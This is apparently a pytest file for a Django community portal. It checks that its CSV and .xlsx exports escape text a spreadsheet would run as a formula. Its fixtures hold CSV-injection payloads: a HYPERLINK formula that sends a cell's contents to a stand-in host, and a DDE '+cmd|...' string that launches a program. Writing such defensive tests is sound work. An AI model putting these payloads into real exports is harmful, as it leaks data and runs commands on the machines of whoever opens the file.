"""Safe spreadsheets: every CSV and .xlsx the portal writes keeps text starting with = + - @,
a tab or a carriage return from being run as a formula (OWASP "CSV Injection").

``cells_of`` and ``assert_inert`` are shared helpers: any test of an export can use them.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from core.spreadsheets import FORMULA_STARTS, safe_cell, safe_row, safe_xlsx_cell
from tests.households.conftest import world  # noqa: F401  (the register's "two communities")

ATTACK = '=HYPERLINK("http://x?"&H2,"点此")'


def cells_of(body: bytes, fmt: str) -> list[list]:
    """Every cell of a CSV or .xlsx file: CSV cells as text, .xlsx cells as openpyxl cells."""
    if fmt == "csv":
        return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    return [list(row) for row in sheet.iter_rows()]


def assert_inert(body: bytes, fmt: str) -> None:
    """No cell of the file is a formula or text a spreadsheet would run as one."""
    for row in cells_of(body, fmt):
        for cell in row:
            if fmt == "xlsx":
                assert cell.data_type != "f", cell.value
                value = cell.value
            else:
                value = cell
            if isinstance(value, str):
                assert not value.startswith(FORMULA_STARTS), value


def body_of(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


# --- the helper itself ------------------------------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_could_run_as_a_formula_is_escaped(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["陈家豪", "138****5678", "", " =x", 42, -3, 1.5, None, True])
def test_other_values_pass_unchanged(value):
    assert safe_cell(value) == value


def test_rows_and_xlsx_cells():
    assert safe_row(["a", "=b", 3]) == ["a", "'=b", 3]
    assert safe_xlsx_cell("王\x07秀英") == "王秀英"  # .xlsx cannot hold control characters
    assert safe_xlsx_cell("\x01=1") == "'=1"


# --- the register's list exports ---------------------------------------------------------------


@pytest.fixture
def attacker(world):  # noqa: F811
    from tests.factories.households import MemberFactory

    member = MemberFactory(household=world.hA1, name=ATTACK, notes="-2+3")
    world.hA1.householder_name = ATTACK
    world.hA1.address = "@SUM(1,2)"
    world.hA1.save()
    return member


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(
    "url", ["households_household:index", "households_member:index"], ids=["households", "members"]
)
@pytest.mark.parametrize("persona", ["group_leader", "staff"])
def test_register_exports_are_inert(attacker, client_for, persona, url, fmt):
    response = client_for(persona).get(reverse(url), {"export": fmt})
    assert response.status_code == 200
    body = body_of(response)
    assert_inert(body, fmt)
    texts = [c if fmt == "csv" else c.value for row in cells_of(body, fmt) for c in row]
    assert "'" + ATTACK in texts  # the name is kept, as text


# --- the events sign-up export -------------------------------------------------------------------


@pytest.mark.django_db
def test_event_signups_export_is_inert(client_for, roles):
    from events.models import Signup
    from events.pages import EventQuestion
    from tests.factories.events import event_create

    event = event_create(title="中秋茶话会", capacity=20)
    question = EventQuestion.objects.create(page=event, label="=1+1", sort_order=1)
    Signup.objects.create(
        event=event,
        name=ATTACK,
        phone="+8613812345678",
        status=Signup.Status.CONFIRMED,
        answers={str(question.pk): "+cmd|' /C calc'!A0"},
    )
    response = client_for("staff").get(reverse("events_staff_signups_export", args=[event.pk]))
    assert response.status_code == 200
    assert_inert(response.content, "xlsx")
    texts = [c.value for row in cells_of(response.content, "xlsx") for c in row]
    assert "'" + ATTACK in texts and "'=1+1" in texts
